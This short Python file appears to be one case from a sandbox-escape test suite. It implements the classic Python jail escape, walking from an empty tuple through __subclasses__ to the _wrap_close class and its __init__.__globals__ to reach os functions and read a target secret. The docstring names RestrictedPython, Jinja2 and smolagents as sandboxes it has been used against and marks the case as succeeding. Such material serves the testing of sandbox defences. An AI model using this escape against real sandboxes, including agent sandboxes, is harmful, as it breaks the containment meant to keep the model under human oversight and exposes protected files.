"""Walk from an empty tuple to every class of the interpreter, and through one of them to the functions of os.

origin: the oldest escape from Python jails; used against RestrictedPython, Jinja2 and smolagents
why: no name list hides what every object can reach
control: succeeds
"""


def attack(target):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            functions = cls.__init__.__globals__
            return read_secret(target, descriptor_bytes(functions["open"], functions["read"]), "open")
    return nothing("the class is not loaded")
